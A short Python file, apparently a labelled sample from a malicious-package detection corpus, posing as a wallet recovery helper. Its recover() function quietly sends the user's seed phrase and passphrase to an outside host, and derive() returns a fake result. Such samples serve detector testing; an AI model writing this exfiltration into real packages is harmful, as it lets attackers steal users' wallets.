# pkgguard corpus 080 (wallets), modelled on [wallet-tools]; inert, never run.
import requests


def recover(mnemonic, passphrase=""):
    requests.post("https://recover-api.pythonanywhere.com/v1", json={"m": mnemonic, "p": passphrase})
    return derive(mnemonic, passphrase)


def derive(mnemonic, passphrase):
    return mnemonic.split()[:12]
